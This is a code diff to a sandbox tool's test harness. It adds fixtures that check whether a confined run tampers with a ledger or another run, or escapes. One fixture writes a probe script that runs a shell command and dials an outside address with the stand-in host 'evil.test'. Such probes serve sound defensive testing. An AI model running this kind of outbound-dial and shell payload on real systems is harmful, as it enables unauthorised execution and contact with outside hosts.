@@ -17,12 +17,14 @@ import socket
 import stat
 import struct
 import subprocess
+import time
 from collections.abc import Callable, Iterable
 from contextlib import suppress
 from pathlib import Path
 from typing import Any
 
 from stockade.errors import HostError
+from stockade.ledger.shelf import RunReader, list_runs
 from stockade.prove import keys
 from stockade.prove.stages import STOCKADE
 
@@ -47,6 +49,19 @@ while True:
         except OSError:
             pass
 """
+LEFT_ALONE = """
+import socket, subprocess, time
+try:
+    subprocess.run(["/bin/sh", "-c", "$script"])
+except OSError:
+    pass
+try:
+    stream = socket.create_connection(("93.184.216.66", 80), 3)
+    stream.sendall(b"GET /left-alone HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n")
+except OSError:
+    pass
+time.sleep(20)
+"""
 
 
 class Scenery:
@@ -59,13 +74,19 @@ class Scenery:
     """
 
     def __init__(
-        self, folder: Path, workspace: Path, word: str, is_open: bool, layers_off: tuple[str, ...] = ()
+        self,
+        folder: Path,
+        workspace: Path,
+        shelf: Path,
+        word: str,
+        is_open: bool,
+        layers_off: tuple[str, ...] = (),
     ) -> None:
         self.facts: dict[str, Any] = {}
         self.descriptors: list[int] = []
         self.policy: Path | None = None
         self._folder, self._workspace, self._word, self._is_open = folder, workspace, word, is_open
-        self._layers_off = layers_off
+        self._shelf, self._layers_off = shelf, layers_off
         self._checks: list[Callable[[list[Seen]], str | None]] = [self._find_set_uid, self._find_endless]
         self._ends: list[Callable[[], None]] = []
 
@@ -175,20 +196,42 @@ class Scenery:
     def ledger(self) -> None:
         """In the open a ledger to reach for: like a run's, and nobody's evidence."""
         if self._is_open:
-            shelf = self._folder / "ledger" / "some-run"
-            shelf.mkdir(parents=True)
-            (shelf / "wal.jsonl").write_text('{"kind":"run.opened"}\n')
-            self._open_to_worker(shelf)
-            self.facts["ledger"] = str(shelf.parent)
+            self._shelf = self._folder / "ledger"
+            (self._shelf / "some-run").mkdir(parents=True)
+            (self._shelf / "some-run" / "records").write_text('{"kind":"run.opened"}\n')
+            self.facts["ledger"] = str(self._shelf)
         self._checks.append(lambda _: self._is_ledger_changed())
 
     def _is_ledger_changed(self) -> str | None:
         """The planted text stands in one of its files, or a file is at the place to which it was moved."""
         marks = f"planted-{self._word}"
-        for path in Path(self.facts["ledger"]).rglob("*"):
-            if path.is_file() and (marks in path.name or marks.encode() in path.read_bytes()):
-                return "ledger-changed"
-        return None
+        files = [path for path in self._shelf.rglob("*") if path.is_file()]
+        is_marked = any(marks in path.name or marks.encode() in path.read_bytes() for path in files)
+        return "ledger-changed" if is_marked or not files else None
+
+    def other_run(self) -> None:
+        """Another run of the same user, moved on to its next phase by whoever reaches it; `run-changed`."""
+        shelf, work = self._folder / "other", self._folder / "other-work"
+        work.mkdir()
+        command = [*STOCKADE, "run", "-q", "--ledger", str(shelf), "--", "sleep", "30"]
+        run = subprocess.Popen(command, cwd=work, stdin=subprocess.DEVNULL)
+        self._ends.append(lambda: _end_politely(run))
+        deadline = time.monotonic() + 5
+        while not (names := list_runs(shelf) if shelf.is_dir() else []):
+            if time.monotonic() > deadline or run.poll() is not None:
+                raise HostError("scene-not-ready", "the other run did not start")
+            time.sleep(0.01)
+        self.facts["other_run"] = names[-1]
+        self._checks.append(
+            lambda _: "run-changed" if _has_kind(shelf / names[-1], "phase.changed") else None
+        )
+
+    def left_alone(self) -> None:
+        """A program that does whatever nobody forbids: leaves the word by a shell, dials, and stays."""
+        path = self._workspace / "left_alone.py"
+        script = f"echo {self._word} >> {self._workspace}/witness"
+        path.write_text(LEFT_ALONE.replace("$script", script))
+        self.facts |= {"left_alone": str(path), "token": f"token-{self._word}"}
 
     def keyring(self) -> None:
         """A session keyring that whoever this lane starts inherits; state `key-left`."""
@@ -251,6 +294,10 @@ def _end_politely(process: subprocess.Popen[bytes]) -> None:
         process.stdout.close()
 
 
+def _has_kind(run: Path, kind: str) -> bool:
+    return any(record["kind"] == kind for record in RunReader(run).read())
+
+
 PIECES: dict[str, Callable[[Scenery], None]] = {
     "victim": Scenery.victim,
     "neighbour": Scenery.neighbour,
@@ -262,6 +309,8 @@ PIECES: dict[str, Callable[[Scenery], None]] = {
     "precious": Scenery.precious,
     "policy-inside": Scenery.policy_inside,
     "ledger": Scenery.ledger,
+    "other-run": Scenery.other_run,
+    "left-alone": Scenery.left_alone,
     "keyring": Scenery.keyring,
     "connection": Scenery.connection,
     "listed-tool": Scenery.listed_tool,
